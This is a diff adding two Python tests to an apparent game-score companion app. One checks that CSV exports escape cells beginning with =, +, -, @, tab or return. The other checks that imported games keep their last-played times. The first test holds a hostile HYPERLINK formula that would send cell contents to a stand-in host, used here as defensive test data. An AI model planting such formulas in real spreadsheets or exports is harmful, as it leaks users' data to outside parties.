@@ -236,3 +236,54 @@ def test_csv_cells_never_start_a_formula() -> None:
 
     records = build_records([info("x", village({"=cmd()": 3, "Bo": 2}))]).records
     assert "'=cmd()" in results_csv(records)
+
+
+def test_csv_header_and_every_cell_is_safe_from_formulas() -> None:
+    """Issue 22.5: a score-category name from an imported game reaches the header row;
+    it must arrive as text ('=HYPERLINK…), like every other cell (OWASP: leading =, +,
+    -, @, tab, CR get a ', and every cell is quoted)."""
+    from tests.history.helpers import info, village
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    names = {"+Ann": 3, "-Bo": 2, "@Cy": 1, "\tDee": 0, "\rEd": 0}
+    cats = {n: {hostile: 1, "coins": 2} for n in names}
+    records = build_records([info("x", village(names, categories=cats),
+                                  title="=1+1")]).records
+    text = results_csv(records)
+    rows = list(csv.reader(io.StringIO(text)))
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert rows[0][-2:] == ["'" + hostile, "coins"]
+    assert all(not cell.startswith(dangerous) for row in rows for cell in row)
+    player = rows[0].index("player")
+    assert {"'+Ann", "'-Bo", "'@Cy"} <= {r[player] for r in rows[1:]}
+    assert all(line.startswith('"') for line in text.splitlines() if line)
+
+
+def test_an_import_keeps_when_each_game_was_last_played(tmp_path: Path) -> None:
+    """Issue 22.8: importing is no play. An imported game keeps its last played (the
+    backup's updated_at where its summary names none) and does not go to the top of
+    "Continue a game" above a game played here since."""
+    from companion.history.cache import HistoryCache
+    from companion.history.played import PLAYED_KEY, last_played
+
+    backup = {"format": FORMAT, "version": 1, "settings": {}, "games": [
+        {"id": "old", "game": "villagers", "title": "Ann, Bo",
+         "updated_at": "2024-03-01T10:00:00.000Z", "finished": False,
+         "summary": {"players": ["Ann", "Bo"]}, "events": [],
+         "header": {"kind": "tally", "schema": 1, "game": "villagers",
+                    "setup": {"game": "villagers", "players": ["Ann", "Bo"], "seed": 1}}}]}
+    kept = json.loads(json.dumps(backup))
+    kept["games"][0]["id"] = "older"
+    kept["games"][0]["summary"][PLAYED_KEY] = "2023-01-01T09:00:00.000Z"
+    store = TinyDBStore(tmp_path)
+    finished_tally(store, "villagers", ["Cy", "Di"])
+    from companion.tally.service import TallyService
+
+    recent, _ = TallyService(store).create("villagers", ["Ed", "Flo"])
+    for data in (backup, kept):
+        report = import_backup(store, json.dumps(data))
+        assert report.imported and not report.not_imported
+    infos = {i.id: i for i in store.list_sessions()}
+    assert last_played(infos["old"]) == "2024-03-01T10:00:00.000Z"
+    assert last_played(infos["older"]) == "2023-01-01T09:00:00.000Z"
+    assert [i.id for i in HistoryCache().unfinished(store)] == [recent, "old", "older"]
